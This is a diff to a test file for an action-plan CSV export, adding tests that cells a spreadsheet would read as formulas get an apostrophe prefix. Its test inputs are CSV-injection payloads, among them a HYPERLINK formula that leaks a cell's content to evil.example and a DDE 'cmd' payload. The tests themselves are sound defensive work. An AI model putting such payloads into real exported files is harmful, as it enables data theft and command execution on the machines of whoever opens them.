@@ -35,6 +35,23 @@ describe('action plan export', () => {
     expect(row).toContain(';"Inför ""servicecenter""; steg 1";Åsa Öberg;Kommunledningskontoret;2027-03-31;Pågår;Gul;40;');
   });
 
+  it.each(['=HYPERLINK("http://evil.example/?x="&A1,"Klicka")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'])(
+    'neutralises a cell a spreadsheet would read as a formula: %j',
+    (title) => {
+      const csv = toCsv([toExportRow({ ...plan, title, latestComment: title })]).toString('utf8');
+      const [, row] = csv.split('\r\n');
+      const cells = row.match(/("([^"]|"")*"|[^;]*)(;|$)/g)!.map((cell) => cell.replace(/;$/, '').replace(/^"|"$/g, '').replace(/""/g, '"'));
+      expect(cells[2]).toBe(`'${title}`);
+      expect(cells[9]).toBe(`'${title}`);
+    },
+  );
+
+  it('leaves numbers and ordinary text as they are', () => {
+    const csv = toCsv([toExportRow({ ...plan, title: 'Minska sjukfrånvaron med 2 %', progress: 40 })]).toString('utf8');
+    expect(csv).toContain(';Minska sjukfrånvaron med 2 %;');
+    expect(csv).toContain(';40;');
+  });
+
   it('writes a workbook with a frozen header and the due date as a date', async () => {
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load((await toXlsx([toExportRow(plan)])) as unknown as ExcelJS.Buffer);
